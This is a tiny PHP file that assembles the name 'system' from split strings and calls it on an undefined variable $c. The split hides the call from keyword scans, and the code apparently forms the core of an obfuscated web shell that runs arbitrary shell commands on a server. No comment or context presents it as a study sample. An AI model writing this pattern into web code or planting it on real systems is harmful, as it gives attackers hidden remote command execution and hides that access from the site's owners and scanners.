<?php
$n = 'sy' . 'st' . 'em';
$n($c);
